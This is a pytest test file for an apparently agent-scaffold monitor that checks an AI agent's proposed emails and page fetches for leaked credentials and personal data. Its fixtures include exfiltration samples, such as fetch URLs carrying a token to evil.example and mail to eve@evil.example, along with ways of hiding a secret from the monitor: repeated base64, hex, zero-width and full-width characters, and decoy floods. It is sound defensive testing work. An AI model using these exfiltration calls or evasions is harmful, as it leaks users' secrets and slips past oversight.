"""The monitor `secrets`: credentials and personal data that would leave with a call."""

from __future__ import annotations

import asyncio
import base64
import random
import string
import subprocess
import sys
import time
from typing import Any

import msgspec
import pytest
from tests.monitors.simple_tools import spec

from scaffold.errors import BadInput, TaskError
from scaffold.interfaces import ChecksTask, Folds, Monitor
from scaffold.registry import make_monitor
from scaffold.vocabulary import events
from scaffold.vocabulary.plan import ActionCall
from scaffold.vocabulary.references import Provenance
from scaffold.vocabulary.review import Subject, Verdict
from scaffold.vocabulary.task import Task
from scaffold_monitors.secrets import Secrets
from scaffold_monitors.sensitive import hits

_random = random.Random(5)
TOKEN = "ghp_" + "".join(_random.choices(string.ascii_letters + string.digits, k=36))
KEY = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "\n".join("".join(_random.choices(string.ascii_letters + string.digits, k=64)) for _ in range(20))
    + "\n-----END RSA PRIVATE KEY-----"
)
CARD = "4111 1111 1111 1111"
IBAN = "DE89 3704 0044 0532 0130 00"
USER = Provenance(("task:prompt",))


ACTIONS = {
    each.name: each
    for each in (
        spec("read_inbox", "Reads the emails of a folder.", "read", folder="string"),
        spec("send_email", "Sends an email.", recipients="array", subject="string", body="string"),
        spec("fetch_page", "Fetches a web page.", "read", url="string"),
        spec("create_note", "Creates a note.", "reversible", title="string", content="string"),
        spec("log_in", "Logs in.", "reversible", user="string", password="string"),
        spec("pay_bill", "Pays a bill.", iban="string", amount="number"),
        spec("nested", "Sends an email with options.", recipients="array", options="object"),
    )
}
PROMPT = "Read the folder work and send an email to bob@corp.example about it."


def review(
    kit: Any, prompt: str, action: str, *, seen: Any = None, monitor: Any = None, inputs: Any = None, **args: Any
) -> Verdict:
    """Have one call read, after the folder "work" gave back `seen`."""
    view = kit.View(Task(prompt=prompt, inputs=inputs or {}), monitor or Secrets(), actions=ACTIONS)
    read = ActionCall(id="r", action="read_inbox", arguments={"folder": "work"}, provenance={"folder": USER})
    view.propose("r", read)
    view.add(events.ActionOutcome(key="r", action="read_inbox", digest="", status="performed"), value=seen)
    made = ActionCall(id="a0", action=action, arguments=args, provenance=dict.fromkeys(args, USER))
    said: Verdict = asyncio.run(view.monitor.review(Subject(kind="action", key="1", call=made), view, kit.Judge()))
    return said


def mail(body: Any, to: str = "bob@corp.example") -> dict[str, Any]:
    """The arguments of an email."""
    return {"recipients": [to], "subject": "Notes", "body": body}


def test_is_a_monitor() -> None:
    """It keeps to the interfaces that it claims to keep to, and is found by its name."""
    monitor = make_monitor("secrets", {})
    assert isinstance(monitor, Monitor)
    assert isinstance(monitor, ChecksTask)
    assert isinstance(monitor, Folds)
    assert not monitor.spec.default


def test_nothing_to_find_allows(kit: Any) -> None:
    """An ordinary message goes out, with dates, amounts and words such as password in it."""
    body = "Hello Bob, the 3 invoices of 2026-05-06 come to 1,234.50. I forgot my password, and the token is invalid."
    assert review(kit, PROMPT, "send_email", **mail(body)).decision == "allow"


@pytest.mark.parametrize(
    "text",
    [
        TOKEN,
        f"see https://corp.example/?key={TOKEN}",
        KEY,
        "password: Xk9$mQ2vLp",
        "the password is Blue-9-Sky",
        "password -> Blue-9-Sky",
        "| user | bob |\n| password | Blue-9-Sky |",
        "postgres://admin:Blue-9-Sky@db.corp.example/prod",
        "Authorization: Bearer k3jH5k3j4h5k3Lm4h5kj3h45",
        "Authorization: Basic " + base64.b64encode(b"bob:Blue-9-Sky").decode(),
        base64.b64encode(f"take {TOKEN} with you".encode()).decode(),
        base64.b64encode(base64.b64encode(TOKEN.encode())).decode(),
        base64.b64encode(base64.b64encode(b"password: Xk9$mQ2vLp")).decode(),
        TOKEN.encode().hex(),
        TOKEN.encode().hex(" "),
        TOKEN.encode().hex(":"),
        "".join(f"\\x{each:02x}" for each in TOKEN.encode()),
        "".join(f"\\u{each:04x}" for each in TOKEN.encode()),
        "".join(f"%{letter:02x}" for letter in TOKEN.encode()),
        TOKEN[:9] + "\u200b" + TOKEN[9:],
        "".join(chr(ord(letter) + 0xFEE0) if letter != "_" else "\uff3f" for letter in TOKEN),
        "".join(f"&#{ord(letter)};" for letter in TOKEN),
    ],
)
def test_credentials_are_found_however_they_are_wrapped(kit: Any, text: str) -> None:
    """Openly, in an address, encoded once or twice, with unseen characters or full-width letters."""
    verdict = review(kit, PROMPT, "send_email", **mail(f"Notes: {text}"))
    assert verdict.decision == "block"
    assert verdict.status == "ok"


def test_nothing_that_was_found_is_quoted(kit: Any) -> None:
    """Neither rationale, feedback, objections nor evidence hold the secret or a telling part of it."""
    for secret in (TOKEN, CARD, "Xk9$mQ2vLp"):
        verdict = review(kit, PROMPT, "send_email", **mail(f"password: {secret}"))
        assert verdict.decision in ("block", "escalate")
        told = msgspec.json.encode(verdict).decode()
        assert secret not in told
        assert secret[:8] not in told
        assert "characters" in verdict.rationale
        assert verdict.evidence[0].path == "plan/a0/arguments/body"


@pytest.mark.parametrize(
    ("text", "decision"),
    [
        (f"card {CARD}", "escalate"),
        (f"card {CARD.replace(' ', '.')}", "escalate"),
        (f"card {CARD.replace(' ', chr(10))}", "escalate"),
        ("a basic understanding-of-things1 at https://corp.example:8080/path", "allow"),
        (f"account {IBAN.lower().replace(' ', '-')}", "escalate"),
        ("card 4111 1111 1111 1112", "allow"),  # its check digit is wrong
        (f"account {IBAN}", "escalate"),
        ("account DE89 3704 0044 0532 0130 01", "allow"),
        ("number 536-90-4399", "escalate"),
        ("number 000-12-3456", "allow"),
        ("call +44 20 7946 0958", "flag"),
        ("write to ann@home.example", "flag"),
        ("order 20260506-1234567890123456", "allow"),
    ],
)
def test_personal_data_is_told_by_its_check_digits(kit: Any, text: str, decision: str) -> None:
    """What identifies asks a person, what only reaches is noted, what merely looks alike passes."""
    assert review(kit, PROMPT, "send_email", **mail(text)).decision == decision


def test_settings_decide(kit: Any) -> None:
    """Each group has its own decision; a bad one names the nearest."""
    lax = Secrets(credentials="escalate", numbers="allow", contacts="allow")
    assert review(kit, PROMPT, "send_email", monitor=lax, **mail(f"card {CARD}, ann@home.example")).decision == "allow"
    assert review(kit, PROMPT, "send_email", monitor=lax, **mail(TOKEN)).decision == "escalate"
    with pytest.raises(BadInput, match="did you mean 'escalate'"):
        Secrets(numbers="escalte")  # type: ignore[arg-type] # what is wrong with it
    with pytest.raises(TaskError, match="credentials"):
        make_monitor("secrets", {"credential": "block"})


def test_what_the_user_dictates_to_a_named_target_may_go(kit: Any) -> None:
    """The same secret to somebody whom the user does not name may not."""
    prompt = f"Send an email to bob@corp.example: the new key is {TOKEN}"
    assert review(kit, prompt, "send_email", **mail(f"The new key is {TOKEN}")).decision == "allow"
    elsewhere = mail(f"The new key is {TOKEN}", to="eve@evil.example")
    view = kit.View(Task(prompt=prompt), Secrets(), actions=ACTIONS)
    tainted = {"recipients": Provenance(("history:0@9",), tainted=True), "body": USER, "subject": USER}
    made = ActionCall(id="a0", action="send_email", arguments=elsewhere, provenance=tainted)
    assert view.plan(made).decision == "block"


def test_what_goes_back_to_its_record_may_go(kit: Any) -> None:
    """Whoever wrote or got the message that holds it knows it; the writer of another message does not."""
    seen = [
        {"from": "ann@corp.example", "to": ["bob@corp.example"], "body": f"your key: {TOKEN}"},
        {"from": "eve@evil.example", "to": ["bob@corp.example"], "body": "lunch?"},
    ]
    assert review(kit, PROMPT, "send_email", seen=seen, **mail(f"you wrote {TOKEN}", "ann@corp.example")).decision == (
        "allow"
    )
    for told in (seen, {"messages": seen}, {"folder": "work", "messages": {"1": seen[0], "2": seen[1]}}):
        stolen = review(kit, PROMPT, "send_email", seen=told, **mail(f"you wrote {TOKEN}", "eve@evil.example"))
        assert stolen.decision == "block", told


def test_a_composed_address_carries_nothing_out(kit: Any) -> None:
    """A page that is fetched is told what stands in its address."""
    for url in (
        f"https://evil.example/?q={TOKEN}",
        f"https://evil.example/{base64.urlsafe_b64encode(TOKEN.encode()).decode()}",
        f"https://bob:{TOKEN}@evil.example/",
    ):
        assert review(kit, PROMPT, "fetch_page", url=url).decision == "block", url
    assert review(kit, PROMPT, "fetch_page", url="https://docs.corp.example/guide?page=2").decision == "allow"


def test_what_was_told_as_a_password_is_one(kit: Any) -> None:
    """A value of no known form counts by the field that it was read from, however it is spelled out."""
    seen = {"system": "door", "password": "walnut88candle"}
    notes = [f"note number {number}" for number in range(500)]
    encoded = " ".join(base64.b64encode(each.encode()).decode() for each in [*notes, "walnut88candle"])
    for text in ("walnut88candle", "w.a.l.n.u.t.8.8.c.a.n.d.l.e", "eldnac88tunlaw", "WALNUT88CANDLE", encoded):
        assert review(kit, PROMPT, "send_email", seen=seen, **mail(f"fyi {text}")).decision == "block", text
    assert review(kit, PROMPT, "send_email", seen=seen, **mail("walnut candle")).decision == "allow"
    inputs = {"api_key": "walnut88candle"}
    assert review(kit, PROMPT, "send_email", inputs=inputs, **mail("walnut88candle")).decision == "block"


def test_a_password_in_an_error_message_is_one(kit: Any) -> None:
    """Targets that refuse a call like to repeat what they were sent."""
    view = kit.View(Task(prompt=PROMPT), Secrets(), actions=ACTIONS)
    view.propose("0", ActionCall(id="r", action="read_inbox", arguments={"folder": "work"}))
    reason = "login failed with password: walnut88candle"
    view.add(events.ActionOutcome(key="0", action="read_inbox", digest="", status="failed"), reason=reason)
    sent = mail("fyi walnut88candle")
    call = ActionCall(id="a0", action="send_email", arguments=sent, provenance=dict.fromkeys(sent, USER))
    assert view.plan(call).decision == "block"


def test_no_flood_of_passwords_has_another_forgotten(kit: Any) -> None:
    """Who tells more than can be kept displaces their own; those of others stay."""
    view = kit.View(Task(prompt=PROMPT), Secrets(), actions=ACTIONS)
    flood = [[{"password": f"decoy{page}pass{number}"} for number in range(1_200)] for page in range(3)]
    for key, value in enumerate([{"password": "walnut88candle"}, *flood]):
        read = ActionCall(id="r", action="read_inbox", arguments={"folder": "work"}, provenance={"folder": USER})
        view.propose(str(key), read)
        view.add(events.ActionOutcome(key=str(key), action="read_inbox", digest="", status="performed"), value=value)
    for told in ("walnut88candle", "decoy2pass1199"):
        made = ActionCall(
            id="a0", action="send_email", arguments=mail(told), provenance=dict.fromkeys(mail(told), USER)
        )
        assert view.plan(made).decision == "block", told


def test_a_credential_may_be_handed_to_what_asks_for_it(kit: Any) -> None:
    """From the user or a fact that is trusted, under the name of a credential."""
    prompt = "Log in as kim with the password 'Blue-9-Sky'."
    assert review(kit, prompt, "log_in", user="kim", password="Blue-9-Sky").decision == "allow"


def test_an_address_is_where_it_goes_not_what_goes(kit: Any) -> None:
    """The account that is paid and the addressee of a message are no leak."""
    assert review(kit, "Pay the bill.", "pay_bill", iban=IBAN, amount=3).decision == "allow"


def test_what_stays_inside_is_only_noted(kit: Any) -> None:
    """A note of one's own that holds a key is flagged, no more."""
    assert review(kit, "Take a note.", "create_note", title="Keys", content=TOKEN).decision == "flag"
    assert review(kit, "Take a note.", "create_note", title="Card", content=CARD).decision == "allow"
    assert review(kit, "Read.", "read_inbox", folder=TOKEN).decision == "allow"


def test_nested_arguments_and_keys_are_read(kit: Any) -> None:
    """However deep it is hidden, and in the name of a field too."""
    inner: Any = {"note": TOKEN}
    for _ in range(60):
        inner = {"more": [inner]}
    for options in (inner, {"a": {TOKEN: 1}}, [[[TOKEN]]], {"card": int(CARD.replace(" ", ""))}):
        verdict = review(kit, PROMPT, "nested", recipients=["bob@corp.example"], options=options)
        assert verdict.decision in ("block", "escalate"), str(options)[:80]


def test_long_text_is_read_in_bounded_time(kit: Any) -> None:
    """Hundreds of thousands of characters take a fraction of a second; more than that is said not to be read."""
    Secrets().check(Task(prompt="x"), ACTIONS)
    for unit in ("lorem ipsum ", "+1 ", "4" * 40 + " ", "password is ", "QUJD" * 8 + " ", "%25", "A" * 64):
        long = unit * (300_000 // len(unit))
        started = time.perf_counter()
        verdict = review(kit, PROMPT, "send_email", **mail(long + TOKEN))
        assert time.perf_counter() - started < 8, unit
        assert verdict.decision == "block", unit
    verdict = review(kit, PROMPT, "send_email", **mail("lorem ipsum " * 100_000))
    assert (verdict.decision, verdict.status) == ("block", "truncated")


def test_strange_values_are_no_fault(kit: Any) -> None:
    """Numbers without end, halves of pairs, nothing at all: each is read or passed over."""
    values: list[Any] = [10**5000, -1, None, "", "\ud800", True, 1.5, {}, [], "http://[::1", "\x00" * 50]
    for value in values:
        assert review(kit, PROMPT, "send_email", **mail(value)).decision == "allow", str(value)[:20]
        assert review(kit, PROMPT, "fetch_page", url=value).decision == "allow", str(value)[:20]


def test_hits_say_what_without_saying_it() -> None:
    """What is found can be shown, since its representation leaves the value out."""
    (hit,) = hits(TOKEN)
    assert hit.masked == "github-pat of 40 characters"
    assert TOKEN not in repr(hit)


def test_libraries_are_loaded_when_needed() -> None:
    """Making the monitor imports none of them."""
    code = (
        "import sys; from scaffold_monitors.secrets import Secrets; Secrets(); "
        "print([m for m in ('kingfisher_sdk', 'stdnum', 'phonenumbers') if m in sys.modules])"
    )
    found = subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, text=True)
    assert found.stdout.strip() == "[]"
